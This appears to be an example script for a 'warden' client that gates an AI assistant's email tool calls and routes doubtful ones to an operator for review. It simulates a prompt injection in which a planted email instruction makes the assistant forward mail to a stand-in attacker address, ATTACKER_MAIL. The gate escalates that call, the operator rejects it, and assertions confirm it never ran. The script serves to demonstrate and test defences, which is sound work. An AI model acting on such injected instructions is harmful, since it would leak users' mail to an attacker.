"""The client without a framework: open a session with the user's request,
gate each call, record each result; the operator reviews what escalated.

    python examples/python/quickstart.py      (needs a built `warden`)
"""

from __future__ import annotations

from _common import ATTACKER_MAIL, CALL_LOG, USER_REQUEST, local_server, read_inbox, send_email
from warden_client import SessionGate

with local_server() as server, server.operator() as operator:
    assistant = operator.with_token(operator.issue_token("assistant").token)
    gate = SessionGate.open(assistant, [USER_REQUEST])

    inbox = gate.call("read_inbox", {"folder": "inbox"}, lambda: read_inbox("inbox"))
    print("read_inbox:", inbox.call.verdict)
    to_bob = gate.call("send_email", {"to": "bob@corp.example", "body": "Your order shipped."},
                       lambda: send_email("bob@corp.example", "Your order shipped."))
    print("send_email to bob:", to_bob.call.verdict, "->", to_bob.value)
    # The injected instruction: the address occurs only in the mail.
    injected = gate.call("send_email", {"to": ATTACKER_MAIL, "body": "fwd"},
                         lambda: send_email(ATTACKER_MAIL, "fwd"))
    print(f"send_email to {ATTACKER_MAIL}:", injected.call.verdict, "->", injected.message)

    for held in operator.escalations("pending"):
        print("operator rejects", held.escalation_id, held.reason)
        operator.reject_escalation(held.escalation_id, "not a recipient the user named")

    envelope = gate.envelope()
    print("session calls:", [(c.action, c.status) for c in gate.session().calls])
    print("tools that ran:", [name for name, _ in CALL_LOG])
    assert [name for name, _ in CALL_LOG] == ["read_inbox", "send_email"]
    assert injected.call.verdict == "escalate" and not injected.ran
